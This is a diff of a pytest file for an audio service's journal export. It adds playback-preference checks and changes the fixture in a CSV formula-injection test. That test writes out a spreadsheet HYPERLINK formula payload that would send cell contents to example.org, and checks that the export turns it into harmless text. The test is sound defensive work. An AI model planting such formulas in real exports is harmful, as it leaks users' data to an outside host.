@@ -7,7 +7,7 @@ import uuid
 from datetime import timedelta
 
 import pytest
-from journal_strategies import A_CHECK_IN, A_SITTING, NOON, check_in, sitting
+from journal_strategies import A_CHECK_IN, A_SITTING, LIKED, NOON, check_in, sitting
 
 from audio_service.journal import (
     CHECK_IN_COLUMNS,
@@ -19,6 +19,8 @@ from audio_service.journal import (
     export_json,
     export_sittings_csv,
     open_notebook,
+    playback_fields,
+    set_playback,
     set_preferences,
     sitting_fields,
     write_check_in,
@@ -38,6 +40,7 @@ def listener(database):
             told = sitting(id=uuid.uuid4(), begun_at=NOON - timedelta(hours=number * 12), title=f"Sitting {number}")
             write_sitting(db, "anna", notebook, told, LATER)
         write_check_in(db, "anna", notebook, check_in(note="тише, calm", soothing=None), LATER)
+        set_playback(db, "anna", LIKED)
         other = open_notebook(db, "ben", "m", NOON)
         write_sitting(db, "ben", other, sitting(title="Of another"), LATER)
     return "anna"
@@ -58,6 +61,8 @@ def test_json_holds_everything_once_and_in_order_and_explains_itself(database, l
         assert found["columns"][kind] == dict(columns)
         assert all(list(row) == list(columns) for row in found[kind])
     assert set(found["columns"]["preferences"]) == set(found["preferences"])
+    assert set(found["columns"]["playback"]) == set(found["playback"])
+    assert found["playback"] == playback_fields(LIKED)
     assert found["check_ins"][0]["note"] == "тише, calm"
     assert found["check_ins"][0]["soothing"] is None
 
@@ -93,17 +98,17 @@ def test_days_are_those_of_the_listeners_choice(database, listener):
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
-def test_a_title_that_a_spreadsheet_would_run_is_made_text(database, start):
+def test_a_title_that_a_spreadsheet_would_run_is_made_text(sqlite, start):
     title = f'{start}HYPERLINK("http://example.org?"&A1,"look")'
-    with database.begin() as db:
+    with sqlite.begin() as db:
         notebook = open_notebook(db, "anna", "n", NOON)
         write_sitting(db, "anna", notebook, sitting(title=title, practice=f"{start}1"), LATER)
         write_check_in(db, "anna", notebook, check_in(note=title), LATER)
-    (row,) = read_csv(export_sittings_csv(database, "anna"))
+    (row,) = read_csv(export_sittings_csv(sqlite, "anna"))
     assert (row["title"], row["practice"]) == (f"'{title}", f"'{start}1")
-    (made,) = read_csv(export_check_ins_csv(database, "anna"))
+    (made,) = read_csv(export_check_ins_csv(sqlite, "anna"))
     assert made["note"] == f"'{title}"
-    assert json.loads("".join(export_json(database, "anna")))["sittings"][0]["title"] == title
+    assert json.loads("".join(export_json(sqlite, "anna")))["sittings"][0]["title"] == title
 
 
 def test_a_listener_without_a_journal_gets_an_empty_one(database):
